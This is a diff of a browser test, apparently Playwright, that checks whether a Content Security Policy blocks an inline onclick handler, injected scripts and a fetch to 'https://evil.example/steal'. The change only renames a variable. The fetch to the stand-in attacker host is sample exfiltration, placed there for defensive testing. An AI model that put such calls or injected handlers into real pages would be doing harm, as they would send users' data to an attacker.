@@ -105,16 +105,16 @@ test.describe("a script that found its way in", () => {
       button.innerHTML = '<button onclick="window.broken = 1">x</button>';
       document.body.append(inline, foreign, button);
       button.querySelector("button")?.click();
-      const told = await fetch("https://evil.example/steal").then(
+      const stolen = await fetch("https://evil.example/steal").then(
         () => "sent",
         () => "refused",
       );
       await all;
-      return { seen: seen.toSorted(), told, isBroken: "broken" in window };
+      return { seen: seen.toSorted(), stolen, isBroken: "broken" in window };
     });
     expect(blocked).toStrictEqual({
       seen: ["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"],
-      told: "refused",
+      stolen: "refused",
       isBroken: false,
     });
   });
